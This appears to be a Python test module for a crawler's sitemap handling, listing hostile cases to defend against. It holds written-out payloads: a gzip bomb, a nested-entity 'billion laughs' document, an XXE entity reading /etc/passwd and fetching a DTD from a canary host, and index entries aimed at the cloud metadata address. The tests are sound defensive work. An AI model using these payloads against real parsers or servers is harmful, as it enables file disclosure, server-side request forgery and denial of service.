"""Sitemaps: huge, nested, endless, self-referencing, on other hosts, packed, broken. Threats A1, A2 and A5."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from typing import Any

from tests.crawler.sitemaps.documents import Listed, index, stories, urlset
from tests.hostile.case import Case, CaseServer
from tests.hostile.run import CaseResult

# One case a line.
# fmt: off

XML = "application/xml"
NEWS = urlset(*stories(3, site="own.example"))
LOC = "<url><loc>http://own.example/1</loc></url>"


def _requests(most: int) -> Callable[[CaseResult], None]:
    def check(result: CaseResult) -> None:
        of_host = ("/robots.txt", "/.well-known/tdmrep.json")
        asked = [one.path for one in result.requests if one.path not in of_host]
        assert len(asked) <= most, f"{len(asked)} requests: {asked[:20]}"

    return check


def _sitemap(name: str, description: str, body: bytes | str | Callable[[CaseServer], bytes | str], outcome: str, *, stories: int = 0, paths: dict[str, Any] | None = None, most: int = 10, **fields: Any) -> Case:
    def response(server: CaseServer) -> dict[str, Any]:
        return {"body": body(server) if callable(body) else body, "type": XML, **fields}

    return Case(name=f"map-{name}", description=description, kind="sitemap", feed_address="http://{here}/sitemap.xml", paths={"/sitemap.xml": response, **(paths or {})}, outcome=outcome, story_count=stories, check=_requests(most))


def _index(*paths: str) -> Callable[[CaseServer], bytes]:
    return lambda server: index(*(one if "//" in one else server.url(one) for one in map(server.fill, paths)))


def _child(body: bytes, **fields: Any) -> dict[str, Any]:
    return {"body": body, "type": XML, **fields}


BOMB = gzip.compress(b"<urlset>" + LOC.encode() * 1_000_000)
LAUGHS = '<!DOCTYPE u [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(12)) + "]><urlset>" + LOC.replace("/1<", "/&m;<") + "</urlset>"
EXTERNAL = '<!DOCTYPE u SYSTEM "http://{canary}/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://{canary}/p">%p;]><urlset xmlns:n="n"><url><loc>http://own.example/1</loc><n:news><n:title>root&e;</n:title></n:news></url></urlset>'

CASES = (
    _sitemap("good", "is an ordinary news sitemap", NEWS, "read", stories=3, most=1),
    _sitemap("bomb", "is a gzip bomb", BOMB, "read", type="application/gzip", most=1),
    _sitemap("bomb-twice", "is a gzip bomb in a gzip coding", BOMB, "read", coding="gzip", most=1),
    _sitemap("child-bomb", "names a gzip bomb", _index("/bomb.xml.gz"), "read", paths={"/bomb.xml.gz": _child(BOMB)}, most=2),
    _sitemap("laughs", "declares entities in entities", LAUGHS, "read|not-a-sitemap", most=1),
    _sitemap("external", "loads a DTD and entities", lambda server: EXTERNAL.replace("{canary}", server.canary), "read", stories=1, most=1),
    _sitemap("million", "lists a million addresses", b"<urlset>" + LOC.encode() * 60_000, "read|too-large", most=1),
    _sitemap("endless-row", "has a row without end", "<urlset><url><loc>http://own.example/" + "a" * 2_000_000, "read", most=1),
    _sitemap("endless-index", "is an index whose sitemaps are indexes of further ones", _index("/i1.xml", "/i2.xml"), "sitemap-not-read", paths={"*": lambda server: {"body": index(*(server.url(f"/x{n}.xml") for n in range(1000))), "type": XML}}),
    _sitemap("itself", "is an index of itself", _index("/sitemap.xml", "/sitemap.xml#x", "/sitemap.xml?"), "sitemap-not-read|not-found", most=3),
    _sitemap("circle", "is an index of an index of itself", _index("/b.xml"), "sitemap-not-read", paths={"/b.xml": lambda server: {"body": index(server.url("/sitemap.xml")), "type": XML}}, most=2),
    _sitemap("many", "is an index of 50,000 sitemaps", lambda server: index(*(server.url(f"/s{n}.xml") for n in range(20_000))), "not-found", most=10),
    _sitemap("inner", "names sitemaps inside", _index("http://{canary}/news.xml", "http://{canary6}/news.xml", "http://169.254.169.254/news.xml", "file:///etc/passwd"), "sitemap-not-read", most=1),
    _sitemap("other-site", "names sitemaps of another site", _index("http://aaa-healthy.test:{port}/feed.xml"), "sitemap-not-read", most=1),
    _sitemap("redirect-inner", "names a sitemap that redirects inside", _index("/turn.xml"), "sitemap-not-read|not-allowed", paths={"/turn.xml": lambda server: {"status": 302, "headers": {"Location": f"http://{server.canary}/n.xml"}}}, most=2),
    _sitemap("robots", "names a sitemap that its robots.txt forbids", _index("/private/n.xml"), "robots", paths={"/robots.txt": {"body": "User-agent: *\nDisallow: /private/", "type": "text/plain"}, "/private/n.xml": _child(NEWS)}, most=1),
    _sitemap("page", "is a page", "<html><body>Sorry</body></html>", "not-a-sitemap", type="text/html", most=1),
    _sitemap("cut", "ends in the middle", NEWS[:900], "read", stories=2, most=1),
    _sitemap("nul", "is zeros", b"\x00" * 100_000, "not-a-sitemap", most=1),
    _sitemap("other-hosts", "lists stories of another site", urlset(*stories(3, site="aaa-healthy.test")), "read", stories=3, most=1),
    _sitemap("long", "has a title of a megabyte", urlset(Listed(link="http://own.example/1", title="x" * 1_000_000)), "read", stories=1, most=1),
    _sitemap("keywords", "has 100,000 keywords", urlset(Listed(link="http://own.example/1", title="T", keywords="k," * 100_000)), "read", stories=1, most=1),
    _sitemap("slow-child", "names a sitemap that never answers", _index("/news.xml", "/2026-11.xml"), "read|timeout", paths={"/news.xml": {"hang": True}, "/2026-11.xml": _child(NEWS)}, most=3),
)
